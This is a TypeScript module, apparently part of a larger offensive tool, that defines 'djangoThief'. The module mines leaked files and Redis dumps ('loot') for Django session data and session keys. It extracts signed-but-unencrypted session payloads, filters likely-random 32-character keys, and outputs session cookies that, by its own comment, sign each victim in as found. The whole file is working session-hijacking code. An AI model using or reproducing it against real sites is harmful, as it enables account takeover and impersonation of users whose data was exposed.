import type { Loot, StoredFile, StoredRow, Thief } from '../../site.ts'
import { windowsOf } from '../thief.ts'

/** Opens the dumps of a Redis. */
export type OpenDumps = (files: readonly StoredFile[]) => Promise<readonly StoredRow[]>

/** What Django has signed: base64, ":", a moment, ":", the signature. Reading it takes no key. */
const SIGNED = /([\w-]+):[0-9A-Za-z]{6}:[\w-]{43}/g
/** A run of characters that may hold a session key. */
const KEYS = /[a-z0-9]{32,}/g

/** The session key is the cookie, so it signs its user in as it was found. */
export function djangoThief(cookieName: string, dumps: OpenDumps): Thief {
  return async (loot) => {
    const dumped = await dumps(loot.files)
    const rows = [...loot.rows, ...dumped]
    const parts = [...loot.files.map(({ bytes }) => bytes), ...rows.map(({ value }) => value)]
    const texts = [
      ...dumped.map(({ value }) => ({ name: 'a session, pickled', bytes: value })),
      ...parts.flatMap(signedIn).map((bytes) => ({ name: 'a session, signed and not encrypted', bytes })),
    ]
    const keys = new Set([...rows.map(({ key }) => key.slice(-32)), ...loot.files.flatMap(keysIn)])
    return { texts, cookies: [...keys].map((key) => `${cookieName}=${key}`) }
  }
}

function keysIn({ name, bytes }: Loot['files'][number]): string[] {
  const text = Buffer.from(bytes).toString('latin1')
  return [...new Set([...windowsOf(name.slice(-32), KEYS), ...windowsOf(text, KEYS)])].filter(isRandom)
}

/** What a program writes is hexadecimal, or words: 32 random letters and digits have both, and more than these. */
const isRandom = (key: string) => /\d/.test(key) && /[g-z]/.test(key) && new Set(key).size >= 12

/** The contents of everything that Django has signed. They may be compressed, which any search sees. */
function signedIn(bytes: Uint8Array): Uint8Array[] {
  const text = Buffer.from(bytes).toString('latin1')
  return [...text.matchAll(SIGNED)].flatMap(([, body = '']) =>
    // In the file of a database, what stands before it may look like a part of it.
    [0, 1, 2, 3].map((start) => Buffer.from(body.slice(start), 'base64url')),
  )
}
